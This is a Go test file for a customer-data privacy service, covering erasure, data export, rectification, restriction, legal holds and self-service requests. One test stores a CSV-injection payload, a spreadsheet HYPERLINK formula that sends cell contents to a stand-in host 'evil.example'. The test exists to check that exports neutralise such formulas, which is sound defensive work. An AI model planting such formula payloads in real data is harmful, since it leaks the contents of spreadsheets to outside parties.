package app

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stewardhq/steward/internal/audit"
	"github.com/stewardhq/steward/internal/authz"
	"github.com/stewardhq/steward/internal/config"
	"github.com/stewardhq/steward/internal/consent"
	"github.com/stewardhq/steward/internal/rights"
	"github.com/stewardhq/steward/internal/store/pgtest"
	"github.com/stewardhq/steward/internal/store/sqlite"
)

// request opens a staff request as the owner (who took the customer's call or letter) and
// returns its id; the DPO then verifies and completes it, as the four-eyes rule wants.
func (e *env) request(body string) string {
	e.t.Helper()
	code, resp := e.do(call{method: "POST", path: "/v1/requests", role: "owner", body: body})
	if code != 201 {
		e.t.Fatalf("create request: got %d %s", code, resp)
	}
	var r struct{ ID string }
	_ = json.Unmarshal([]byte(resp), &r)
	return r.ID
}

func (e *env) verifyAndComplete(id, body string) (int, string) {
	e.t.Helper()
	if code, resp := e.do(call{method: "POST", path: "/v1/requests/" + id + "/verify", role: "dpo"}); code != 200 {
		e.t.Fatalf("verify: got %d %s", code, resp)
	}
	return e.do(call{method: "POST", path: "/v1/requests/" + id + "/complete", role: "dpo", body: body})
}

func TestErasureRequest(t *testing.T) {
	e := newEnv(t, "")
	id := e.create(ada)
	other := e.create(`{"email":"grace@example.com","first_name":"Grace"}`)
	rid := e.request(`{"type":"erasure","email":"ADA.LOVELACE@example.com"}`)
	// Completing an unverified request is refused and changes nothing.
	if code, body := e.do(call{method: "POST", path: "/v1/requests/" + rid + "/complete", role: "dpo"}); code != 409 || !strings.Contains(body, "not verified") {
		t.Fatalf("unverified completion: got %d %s", code, body)
	}
	if code, _ := e.do(call{method: "GET", path: "/v1/customers/" + id, role: "support"}); code != 200 {
		t.Fatalf("customer gone before completion: %d", code)
	}
	code, body := e.verifyAndComplete(rid, "")
	if code != 200 || !strings.Contains(body, `"state":"completed"`) || !strings.Contains(body, `"key_shredded":true`) {
		t.Fatalf("complete: got %d %s", code, body)
	}
	for _, want := range []string{`"table":"customers","deleted":1`, `"table":"blind_index","deleted":2`, `"table":"audit_log"`, `"table":"requests"`} {
		if !strings.Contains(body, want) {
			t.Errorf("report lacks %s: %s", want, body)
		}
	}
	// Every customer route answers Gone.
	for _, c := range []call{
		{method: "GET", path: "/v1/customers/" + id, role: "support"},
		{method: "GET", path: "/v1/customers/" + id, role: "dpo", purpose: "legal_obligation"},
		{method: "PATCH", path: "/v1/customers/" + id, role: "owner", body: `{"fields":{"first_name":"Ada"}}`},
		{method: "PUT", path: "/v1/customers/" + id + "/legal-hold", role: "dpo", body: `{"reason":"tax audit"}`},
		{method: "POST", path: "/v1/requests", role: "dpo", body: `{"type":"access","customer_id":"` + id + `"}`},
	} {
		if code, body := e.do(c); code != 410 || !strings.Contains(body, "erased") {
			t.Errorf("%s %s: got %d %s, want 410", c.method, c.path, code, body)
		}
	}
	if _, body := e.do(call{method: "GET", path: "/v1/customers?email=ada.lovelace@example.com", role: "support"}); !strings.Contains(body, `"data":[]`) {
		t.Errorf("look-up still finds the erased customer: %s", body)
	}
	if _, body := e.do(call{method: "GET", path: "/v1/suppression?email=Ada.Lovelace@example.com", role: "support"}); !strings.Contains(body, `"suppressed":true`) {
		t.Errorf("erased address not suppressed: %s", body)
	}
	if _, body := e.do(call{method: "GET", path: "/v1/suppression?email=grace@example.com", role: "support"}); !strings.Contains(body, `"suppressed":false`) {
		t.Errorf("other address suppressed: %s", body)
	}
	code, body = e.do(call{method: "GET", path: "/v1/erasures/" + id, role: "dpo"})
	if code != 200 || !strings.Contains(body, `"complete":true`) || strings.Contains(body, `"hashes":`) {
		t.Errorf("erasure report: got %d %s", code, body)
	}
	// Double completion is refused; erasing again through the service is idempotent.
	if code, body := e.do(call{method: "POST", path: "/v1/requests/" + rid + "/complete", role: "dpo"}); code != 409 || !strings.Contains(body, "already completed") {
		t.Errorf("double completion: got %d %s", code, body)
	}
	rep, err := e.app.Rights.Erase(authz.WithActor(context.Background(), authz.System), id, "", "again")
	if err != nil || !rep.Complete {
		t.Fatalf("second erasure: %v %+v", err, rep)
	}
	// The other customer is untouched; the audit trail still verifies.
	if code, _ := e.do(call{method: "GET", path: "/v1/customers/" + other, role: "support"}); code != 200 {
		t.Errorf("other customer: got %d", code)
	}
	if _, err := e.app.Audit.Verify(context.Background()); err != nil {
		t.Fatalf("audit: %v", err)
	}
	acts := strings.Join(e.auditActions(id), " ")
	for _, want := range []string{"request.create:owner", "request.verify:dpo", "request.start:dpo", "customer.erase.begin:dpo", "customer.erase:dpo", "request.complete:dpo"} {
		if !strings.Contains(acts, want) {
			t.Errorf("audit lacks %s: %s", want, acts)
		}
	}
	// The ledger file outside the database holds the customer and no personal data.
	b, err := os.ReadFile(filepath.Join(e.dir, "erasure-ledger.jsonl"))
	if err != nil || !strings.Contains(string(b), id) {
		t.Fatalf("ledger file: %v %s", err, b)
	}
	// Hashes, MACs, ids and times are runs of hexadecimal digits and separators, in which a
	// short probe such as "ada" turns up by chance: it is looked for outside them. Longer
	// probes cannot turn up by chance and are looked for everywhere.
	raw := strings.ToLower(string(b))
	text := regexp.MustCompile(`[0-9a-f:.-]{6,}`).ReplaceAllString(raw, "")
	if strings.Contains(text, "ada") {
		t.Errorf("ledger file holds %q", "ada")
	}
	for _, p := range []string{"lovelace", "2079460958"} {
		if strings.Contains(raw, p) {
			t.Errorf("ledger file holds %q", p)
		}
	}
}

func TestRequestBadInput(t *testing.T) {
	e := newEnv(t, "")
	id := e.create(`{"email":"linus@example.com"}`)
	rid := e.request(`{"type":"access","customer_id":"` + id + `"}`)
	tests := []struct {
		name   string
		call   call
		status int
		detail string
	}{
		{"unknown customer", call{method: "POST", path: "/v1/requests", role: "dpo", body: `{"type":"access","customer_id":"0190a000-0000-7000-8000-000000000000"}`}, 404, "customer not found"},
		{"unknown email", call{method: "POST", path: "/v1/requests", role: "dpo", body: `{"type":"access","email":"nobody@example.com"}`}, 404, "no customer has this email"},
		{"two identifiers", call{method: "POST", path: "/v1/requests", role: "dpo", body: `{"type":"access","email":"linus@example.com","customer_id":"` + id + `"}`}, 422, "exactly one"},
		{"bad type", call{method: "POST", path: "/v1/requests", role: "dpo", body: `{"type":"delete_everything","customer_id":"` + id + `"}`}, 422, "type"},
		{"bad jurisdiction", call{method: "POST", path: "/v1/requests", role: "dpo", body: `{"type":"access","customer_id":"` + id + `","jurisdiction":"mars"}`}, 422, "jurisdiction"},
		{"support may not", call{method: "POST", path: "/v1/requests", role: "support", body: `{"type":"access","customer_id":"` + id + `"}`}, 403, "requests.manage"},
		{"unverified completion", call{method: "POST", path: "/v1/requests/" + rid + "/complete", role: "dpo"}, 409, "not verified"},
		{"reject without reason", call{method: "POST", path: "/v1/requests/" + rid + "/reject", role: "dpo", body: `{"reason":" "}`}, 422, "reason"},
		{"unknown request", call{method: "GET", path: "/v1/requests/0190a000-0000-7000-8000-000000000000", role: "dpo"}, 404, "request not found"},
		{"bad due filter", call{method: "GET", path: "/v1/requests?due=yesterday", role: "dpo"}, 422, "due"},
		{"export of no package", call{method: "GET", path: "/v1/requests/" + rid + "/export", role: "dpo"}, 404, "no export"},
		{"export without token", call{method: "GET", path: "/v1/requests/" + rid + "/export"}, 401, "token"},
		{"used confirmation token", call{method: "POST", path: "/v1/privacy/confirm", body: `{"token":"nope"}`}, 410, "not valid"},
		{"hold without reason", call{method: "PUT", path: "/v1/customers/" + id + "/legal-hold", role: "dpo", body: `{"reason":""}`}, 422, "reason"},
		{"release of no hold", call{method: "DELETE", path: "/v1/customers/" + id + "/legal-hold", role: "dpo"}, 404, "not under legal hold"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			before, _ := e.app.Store.Audit().ListAudit(context.Background(), audit.Filter{Limit: 1})
			code, body := e.do(tt.call)
			if code != tt.status || !strings.Contains(body, tt.detail) {
				t.Fatalf("got %d %s, want %d naming %q", code, body, tt.status, tt.detail)
			}
			after, _ := e.app.Store.Audit().ListAudit(context.Background(), audit.Filter{Limit: 1})
			// Only a question that found nothing is audited: an unknown address asked by
			// (which field, never the value) and a read of an unknown request.
			want := map[string]string{"unknown email": audit.ActionCustomerLookup, "unknown request": audit.ActionReadMissing}[tt.name]
			switch {
			case want == "" && after[0].ID != before[0].ID:
				t.Errorf("a refused request wrote audit entry %s", after[0].Action)
			case want != "" && (after[0].ID == before[0].ID || after[0].Action != want || strings.Contains(after[0].Target, "nobody")):
				t.Errorf("want one %s entry without the value, got %+v", want, after[0])
			}
		})
	}
	if _, body := e.do(call{method: "GET", path: "/v1/requests/" + rid, role: "dpo"}); !strings.Contains(body, `"state":"received"`) {
		t.Errorf("request changed: %s", body)
	}
}

// TestLegalHoldBlocksErasure: a hold refuses erasure with its reason and changes nothing.
func TestLegalHoldBlocksErasure(t *testing.T) {
	e := newEnv(t, "")
	id := e.create(`{"email":"held@example.com"}`)
	if code, body := e.do(call{method: "PUT", path: "/v1/customers/" + id + "/legal-hold", role: "dpo", body: `{"reason":"litigation 2024-17"}`}); code != 200 {
		t.Fatalf("hold: %d %s", code, body)
	}
	rid := e.request(`{"type":"erasure","customer_id":"` + id + `"}`)
	code, body := e.verifyAndComplete(rid, "")
	if code != 409 || !strings.Contains(body, "legal hold (litigation 2024-17)") {
		t.Fatalf("erasure under hold: got %d %s", code, body)
	}
	if code, _ := e.do(call{method: "GET", path: "/v1/customers/" + id, role: "support"}); code != 200 {
		t.Fatalf("held customer: got %d", code)
	}
	if code, _ := e.do(call{method: "DELETE", path: "/v1/customers/" + id + "/legal-hold", role: "dpo"}); code != 204 {
		t.Fatalf("release: got %d", code)
	}
	if code, body := e.do(call{method: "POST", path: "/v1/requests/" + rid + "/complete", role: "dpo"}); code != 200 || !strings.Contains(body, `"complete":true`) {
		t.Fatalf("erasure after release (resumes in_progress): got %d %s", code, body)
	}
}

// failingPart fails the first time it runs, as a crash in the middle of an erasure would.
type failingPart struct {
	rights.Part
	failed bool
}

func (f *failingPart) Erase(ctx context.Context, id string) (rights.Outcome, error) {
	if !f.failed {
		f.failed = true
		return rights.Outcome{}, errors.New("simulated crash")
	}
	return f.Part.Erase(ctx, id)
}

// TestErasureResumesAfterCrash: an erasure that stops halfway has already shredded the key
// and answers Gone; Resume (run by the serve loop) finishes it with a complete report.
func TestErasureResumesAfterCrash(t *testing.T) {
	e := newEnv(t, "")
	id := e.create(ada)
	rid := e.request(`{"type":"access","customer_id":"` + id + `"}`)
	parts := e.app.Rights.Parts()
	var fp *failingPart
	for i, p := range parts {
		if p.Table() == "requests" {
			fp = &failingPart{Part: p}
			parts[i] = fp
		}
	}
	ctx := authz.WithActor(context.Background(), authz.System)
	if _, err := e.app.Rights.Erase(ctx, id, "", "test"); err == nil || !strings.Contains(err.Error(), "simulated crash") {
		t.Fatalf("got %v, want the simulated crash", err)
	}
	if code, _ := e.do(call{method: "GET", path: "/v1/customers/" + id, role: "support"}); code != 410 {
		t.Fatalf("half-erased customer: got %d, want 410", code)
	}
	entry, err := e.app.Store.Rights().LedgerEntry(ctx, id)
	if err != nil || entry.State != rights.LedgerErasing {
		t.Fatalf("ledger: %v %+v", err, entry)
	}
	n, err := e.app.Rights.Resume(ctx)
	if err != nil || n != 1 {
		t.Fatalf("resume: %d %v", n, err)
	}
	entry, _ = e.app.Store.Rights().LedgerEntry(ctx, id)
	if entry.State != rights.LedgerErased || !entry.Report.Complete || len(entry.Report.Tables) != len(parts) {
		t.Fatalf("after resume: %+v", entry)
	}
	// The customers outcome recorded before the crash survived the resume.
	for _, o := range entry.Report.Tables {
		if o.Table == "customers" && o.Deleted != 1 {
			t.Errorf("customers outcome lost: %+v", o)
		}
	}
	if _, body := e.do(call{method: "GET", path: "/v1/requests/" + rid, role: "dpo"}); !strings.Contains(body, `"state":"received"`) {
		t.Errorf("request of an erased customer: %s", body)
	}
}

// TestRegistryCoversSchema fails when a table with a customer_id column has no Part, so
// erasure and export cannot forget a table added later.
func TestRegistryCoversSchema(t *testing.T) {
	for _, engine := range []string{"sqlite", "postgres"} {
		t.Run(engine, func(t *testing.T) {
			db := ""
			if engine == "postgres" {
				db = pgtest.URL(t)
			}
			e := newEnv(t, db)
			tables, err := e.app.Store.CustomerTables(context.Background())
			if err != nil {
				t.Fatal(err)
			}
			covered := e.app.Rights.Parts().Tables()
			for _, tb := range tables {
				if !slices.Contains(covered, tb) {
					t.Errorf("table %s holds customer_id but no rights.Part covers it: erasure and export would miss it", tb)
				}
			}
			for _, c := range covered {
				if !slices.Contains(tables, c) {
					t.Errorf("Part for %s, which has no customer_id column", c)
				}
			}
			if !slices.Contains(tables, "audit_log") || !slices.Contains(tables, "blind_index") {
				t.Fatalf("schema query found %v", tables)
			}
		})
	}
}

func TestAccessAndPortabilityExport(t *testing.T) {
	e := newEnv(t, "")
	id := e.create(ada)
	rid := e.request(`{"type":"portability","customer_id":"` + id + `","jurisdiction":"ccpa"}`)
	code, body := e.verifyAndComplete(rid, "")
	if code != 200 || !strings.Contains(body, "download_url") {
		t.Fatalf("complete: got %d %s", code, body)
	}
	var done struct {
		DueAt  time.Time `json:"due_at"`
		Result struct {
			DownloadURL string `json:"download_url"`
		}
	}
	_ = json.Unmarshal([]byte(body), &done)
	// The token is shown once: the stored request does not hold it.
	if _, stored := e.do(call{method: "GET", path: "/v1/requests/" + rid, role: "dpo"}); strings.Contains(stored, "token=") || !strings.Contains(stored, "export_id") {
		t.Errorf("stored request: %s", stored)
	}
	resp, err := http.Get(e.srv.URL + done.Result.DownloadURL)
	if err != nil {
		t.Fatal(err)
	}
	zipped, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || resp.Header.Get("Content-Type") != "application/zip" {
		t.Fatalf("download: %d %s", resp.StatusCode, zipped)
	}
	files := unzip(t, zipped)
	for _, name := range []string{"export.json", "report.html", "profile.csv", "audit_log.csv", "requests.csv"} {
		if _, ok := files[name]; !ok {
			t.Errorf("package lacks %s (has %v)", name, keysOf(files))
		}
	}
	js := files["export.json"]
	for _, want := range []string{"ada.lovelace@example.com", "QQ123456C", `"legal_basis": "contract"`, `"category": "contact"`, `"retention": "until_erasure"`, `"Who processed your data"`} {
		if !strings.Contains(js, want) {
			t.Errorf("export.json lacks %s", want)
		}
	}
	if !strings.Contains(files["report.html"], "Lovelace") || !strings.Contains(files["profile.csv"], "national_id,QQ123456C") {
		t.Errorf("report or CSV incomplete")
	}
	// A wrong token is refused; the export is sealed at rest (the address is not in the row).
	bad := strings.Split(done.Result.DownloadURL, "token=")[0] + "token=wrong"
	if code, _ := e.do(call{method: "GET", path: bad}); code != 403 {
		t.Errorf("wrong token: got %d", code)
	}
	var blob []byte
	if err := e.app.Store.Write().QueryRow(`SELECT blob FROM exports`).Scan(&blob); err != nil || bytes.Contains(blob, []byte("Lovelace")) || len(blob) < 100 {
		t.Errorf("export at rest: %v, %d bytes", err, len(blob))
	}
	// After expiry the package answers Gone and is deleted.
	e.clock.Set(8 * 24 * time.Hour)
	if code, body := e.do(call{method: "GET", path: done.Result.DownloadURL}); code != 410 || !strings.Contains(body, "expired") {
		t.Errorf("expired: got %d %s", code, body)
	}
	var n int
	_ = e.app.Store.Write().QueryRow(`SELECT COUNT(*) FROM exports`).Scan(&n)
	if n != 0 {
		t.Errorf("expired export still stored")
	}
	if due := time.Until(done.DueAt); due < 44*24*time.Hour || due > 45*24*time.Hour {
		t.Errorf("CCPA due in %v, want 45 days", due)
	}
}

func unzip(t *testing.T, b []byte) map[string]string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for _, f := range z.File {
		r, _ := f.Open()
		c, _ := io.ReadAll(r)
		r.Close()
		out[f.Name] = string(c)
	}
	return out
}

func keysOf(m map[string]string) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}

func TestRectificationAndRestriction(t *testing.T) {
	e := newEnv(t, "")
	id := e.create(ada)
	rid := e.request(`{"type":"rectification","customer_id":"` + id + `"}`)
	code, body := e.verifyAndComplete(rid, `{"fields":{"last_name":"King","phone":null}}`)
	if code != 200 || !strings.Contains(body, `"fields_corrected":["last_name","phone"]`) || strings.Contains(body, "King") {
		t.Fatalf("rectify: got %d %s", code, body)
	}
	if _, body := e.do(call{method: "GET", path: "/v1/customers/" + id, role: "dpo", purpose: "privacy_requests"}); !strings.Contains(body, `"King"`) || strings.Contains(body, "7946") {
		t.Errorf("rectified customer: %s", body)
	}
	entries, _ := e.app.Store.Audit().ListAudit(context.Background(), audit.Filter{CustomerID: id, Limit: 100})
	raw, _ := json.Marshal(entries)
	if bytes.Contains(raw, []byte("Lovelace")) || bytes.Contains(raw, []byte("King")) {
		t.Errorf("audit holds values: %s", raw)
	}
	rid = e.request(`{"type":"restriction","customer_id":"` + id + `"}`)
	if code, body := e.verifyAndComplete(rid, ""); code != 200 || !strings.Contains(body, `"restricted":true`) {
		t.Fatalf("restrict: got %d %s", code, body)
	}
	if code, body := e.do(call{method: "GET", path: "/v1/customers/" + id, role: "support", purpose: "support"}); code != 403 || !strings.Contains(body, "restricted") {
		t.Errorf("reveal of restricted customer for support: got %d %s", code, body)
	}
	if code, body := e.do(call{method: "GET", path: "/v1/customers/" + id, role: "dpo", purpose: "legal_obligation"}); code != 200 || !strings.Contains(body, "QQ123456C") {
		t.Errorf("legal reveal of restricted customer: got %d %s", code, body)
	}
	if _, body := e.do(call{method: "GET", path: "/v1/customers?email=ada.lovelace@example.com", role: "support", purpose: "support"}); strings.Contains(body, "ada.lovelace@") || !strings.Contains(body, id) {
		t.Errorf("look-up of restricted customer revealed it: %s", body)
	}
	if code, _ := e.do(call{method: "GET", path: "/v1/customers/" + id, role: "support"}); code != 200 {
		t.Errorf("masked read (storage) of restricted customer: got %d", code)
	}
	acts := strings.Join(e.auditActions(id), " ")
	if !strings.Contains(acts, "customer.reveal:support:support:denied") || !strings.Contains(acts, "customer.restrict:dpo") {
		t.Errorf("audit: %s", acts)
	}
	rid = e.request(`{"type":"restriction","customer_id":"` + id + `"}`)
	if code, body := e.verifyAndComplete(rid, `{"lift":true}`); code != 200 || !strings.Contains(body, `"restricted":false`) {
		t.Fatalf("lift: got %d %s", code, body)
	}
	if code, _ := e.do(call{method: "GET", path: "/v1/customers/" + id, role: "support", purpose: "support"}); code != 200 {
		t.Errorf("reveal after lift: got %d", code)
	}
}

func TestSelfServiceRequest(t *testing.T) {
	e := newEnv(t, "", func(c *config.Config) { c.Mail, c.MailFrom = "file:", "privacy@shop.example" })
	mailDir := filepath.Join(e.dir, "mail")
	id := e.create(ada)
	code, body := e.do(call{method: "POST", path: "/v1/privacy/requests", body: `{"type":"access","email":"ada.lovelace@example.com"}`})
	if code != 202 || strings.Contains(body, id) {
		t.Fatalf("self request: got %d %s", code, body)
	}
	// An unknown address gets the same answer.
	if code, body2 := e.do(call{method: "POST", path: "/v1/privacy/requests", body: `{"type":"access","email":"stranger@example.com"}`}); code != 202 || body2[:40] != body[:40] {
		t.Fatalf("unknown address: got %d %s", code, body2)
	}
	mails, _ := filepath.Glob(filepath.Join(mailDir, "*.eml"))
	if len(mails) != 2 {
		t.Fatalf("got %d mails, want 2", len(mails))
	}
	var token string
	for _, m := range mails {
		b, _ := os.ReadFile(m)
		if strings.Contains(string(b), "To: ada.lovelace@example.com") {
			token = regexp.MustCompile(`token=([A-Za-z0-9_-]+)`).FindStringSubmatch(string(b))[1]
		}
	}
	if code, page := e.do(call{method: "GET", path: "/v1/privacy/confirm?token=" + token}); code != 200 || !strings.Contains(page, `<form method="post"`) {
		t.Fatalf("confirm page: %d %s", code, page)
	}
	// The page alone changes nothing.
	if _, list := e.do(call{method: "GET", path: "/v1/requests?state=verified", role: "dpo"}); !strings.Contains(list, `"data":[]`) {
		t.Fatalf("GET confirmed a request: %s", list)
	}
	code, body = e.do(call{method: "POST", path: "/v1/privacy/confirm", body: `{"token":"` + token + `"}`})
	if code != 200 || !strings.Contains(body, `"state":"verified"`) {
		t.Fatalf("confirm: got %d %s", code, body)
	}
	if code, body := e.do(call{method: "POST", path: "/v1/privacy/confirm", body: `{"token":"` + token + `"}`}); code != 410 {
		t.Fatalf("second use: got %d %s", code, body)
	}
	_, list := e.do(call{method: "GET", path: "/v1/requests?state=verified", role: "dpo"})
	if !strings.Contains(list, id) || !strings.Contains(list, `"source":"customer"`) {
		t.Fatalf("verified list: %s", list)
	}
	// An expired link answers Gone.
	if code, _ := e.do(call{method: "POST", path: "/v1/privacy/requests", body: `{"type":"erasure","email":"ada.lovelace@example.com"}`}); code != 202 {
		t.Fatal(code)
	}
	mails, _ = filepath.Glob(filepath.Join(mailDir, "*.eml"))
	slices.Sort(mails)
	b, _ := os.ReadFile(mails[len(mails)-1])
	token = regexp.MustCompile(`token=([A-Za-z0-9_-]+)`).FindStringSubmatch(string(b))[1]
	e.clock.Set(25 * time.Hour)
	if code, body := e.do(call{method: "POST", path: "/v1/privacy/confirm", body: `{"token":"` + token + `"}`}); code != 410 || !strings.Contains(body, "expired") {
		t.Fatalf("expired link: got %d %s", code, body)
	}
	// Overdue and due soon, in the API and in metrics.
	e.clock.Set(40 * 24 * time.Hour)
	if _, list := e.do(call{method: "GET", path: "/v1/requests?due=overdue", role: "dpo"}); strings.Count(list, `"overdue":true`) != 3 {
		t.Errorf("overdue: %s", list)
	}
	_, metrics := e.do(call{method: "GET", path: "/metrics"})
	if !strings.Contains(metrics, "steward_requests_overdue 3") || strings.Contains(metrics, id) {
		t.Errorf("metrics: %s", grepLines(metrics, "steward_requests"))
	}
}

func grepLines(s, sub string) string {
	var out []string
	for _, l := range strings.Split(s, "\n") {
		if strings.Contains(l, sub) {
			out = append(out, l)
		}
	}
	return strings.Join(out, "\n")
}

// TestErasureLeavesNoKeyBytes: after an erasure the live SQLite files no longer hold the
// customer's wrapped data key or ciphertexts, not even in the freed space of a page, so a
// copy of the files taken later cannot bring the key back.
func TestErasureLeavesNoKeyBytes(t *testing.T) {
	e := newEnv(t, "")
	for i := 0; i < 20; i++ {
		e.create(`{"email":"n` + string(rune('a'+i)) + `@example.com","first_name":"Neighbour"}`)
	}
	id := e.create(ada)
	rec, err := e.app.Store.Customers().GetCustomer(context.Background(), id)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := e.app.Rights.Erase(authz.WithActor(context.Background(), authz.System), id, "", "test"); err != nil {
		t.Fatal(err)
	}
	if err := sqlite.Checkpoint(context.Background(), e.app.Store); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"steward.db", "steward.db-wal"} {
		b, _ := os.ReadFile(filepath.Join(e.dir, name))
		if bytes.Contains(b, rec.Key) || bytes.Contains(b, rec.Sealed["national_id"]) {
			t.Errorf("%s still holds the erased customer's wrapped key or a ciphertext", name)
		}
	}
}

// TestErasureCoversCollectedData: events, identities, orders and checkouts that arrived through
// the tracking API go with the customer, and the erasure report names every one of them.
func TestErasureCoversCollectedData(t *testing.T) {
	e := newEnv(t, "")
	e.mustTrack("/v1/batch", `{"batch":[
	  {"type":"identify","messageId":"e1","anonymousId":"anon-9","userId":"u-9","traits":{"email":"erase.me@example.com","firstName":"Erin"}},
	  {"type":"track","messageId":"e2","userId":"u-9","event":"Checkout Started","properties":{"checkout_id":"c-9","value":10,"currency":"eur"}},
	  {"type":"track","messageId":"e3","userId":"u-9","event":"Order Completed","properties":{"order_id":"o-9","total":10,"currency":"eur"}}
	]}`)
	id := e.customerOf("erase.me@example.com")
	count := func(table string) (n int) {
		if err := e.app.Store.Write().QueryRow(`SELECT COUNT(*) FROM `+table+` WHERE customer_id = $1`, id).Scan(&n); err != nil {
			t.Fatal(err)
		}
		return n
	}
	for _, table := range []string{"events", "identities", "orders", "checkouts"} {
		if count(table) == 0 {
			t.Fatalf("no %s rows before erasure", table)
		}
	}
	rid := e.request(`{"type":"erasure","customer_id":"` + id + `"}`)
	code, body := e.verifyAndComplete(rid, "")
	if code != 200 || !strings.Contains(body, `"complete":true`) {
		t.Fatalf("complete: got %d %s", code, body)
	}
	for _, table := range []string{"events", "identities", "orders", "checkouts", "reviews", "customer_links", "consent_records"} {
		if !strings.Contains(body, `"table":"`+table+`"`) {
			t.Errorf("erasure report does not mention %s: %s", table, body)
		}
	}
	for _, table := range []string{"events", "identities", "orders", "checkouts"} {
		if n := count(table); n != 0 {
			t.Errorf("%d %s rows left after erasure", n, table)
		}
	}
}

// TestErasureSuppressesMarketing: once a customer is erased, a new customer with the same e-mail
// address (a re-import, a fresh sign-up) may not be sent marketing on the strength of an old list.
func TestErasureSuppressesMarketing(t *testing.T) {
	e := newEnv(t, "")
	e.publish(policyV1)
	id := e.create(`{"email":"gone.for.good@example.com","first_name":"Gwen"}`)
	rid := e.request(`{"type":"erasure","customer_id":"` + id + `"}`)
	if code, body := e.verifyAndComplete(rid, ""); code != 200 {
		t.Fatalf("complete: got %d %s", code, body)
	}
	// Re-imported from an old list that still carries a consent.
	again := e.create(`{"email":"Gone.For.Good@example.com","first_name":"Gwen"}`)
	if code, body := e.do(call{method: "POST", path: "/v1/customers/" + again + "/consents", role: "owner",
		body: `{"purpose":"marketing_email","granted":true,"policy_version":"2026-01","source":"import"}`}); code != 201 {
		t.Fatalf("grant: %d %s", code, body)
	}
	if r := e.reason(again, "marketing_email", nil); r != consent.ReasonSuppressed {
		t.Fatalf("re-imported after erasure: got %s, want suppressed", r)
	}
}

// TestExportCSVIsInert: values that a spreadsheet would run as formulas (CSV injection) reach
// the portability package's CSV files with a leading apostrophe, so opening profile.csv never
// runs them; the JSON keeps the value as it is.
func TestExportCSVIsInert(t *testing.T) {
	e := newEnv(t, "")
	id := e.create(`{"email":"formula@example.com","first_name":"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")","last_name":"@SUM(1+1)"}`)
	rid := e.request(`{"type":"portability","customer_id":"` + id + `"}`)
	code, body := e.verifyAndComplete(rid, "")
	var done struct {
		Result struct {
			DownloadURL string `json:"download_url"`
		}
	}
	if err := json.Unmarshal([]byte(body), &done); code != 200 || err != nil {
		t.Fatalf("complete: got %d %s", code, body)
	}
	resp, err := http.Get(e.srv.URL + done.Result.DownloadURL)
	if err != nil {
		t.Fatal(err)
	}
	zipped, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	files := unzip(t, zipped)
	csv := files["profile.csv"]
	if !strings.Contains(csv, `"'=HYPERLINK(`) || !strings.Contains(csv, "'@SUM(1+1)") {
		t.Fatalf("formulas not neutralised in profile.csv:\n%s", csv)
	}
	for _, line := range strings.Split(csv, "\n") {
		if _, cell, ok := strings.Cut(line, ","); ok && strings.ContainsAny(cell[:min(1, len(cell))], "=@") {
			t.Errorf("a cell starts a formula: %q", line)
		}
	}
	if !strings.Contains(files["export.json"], `=HYPERLINK(`) {
		t.Errorf("export.json lost the value as given")
	}
}
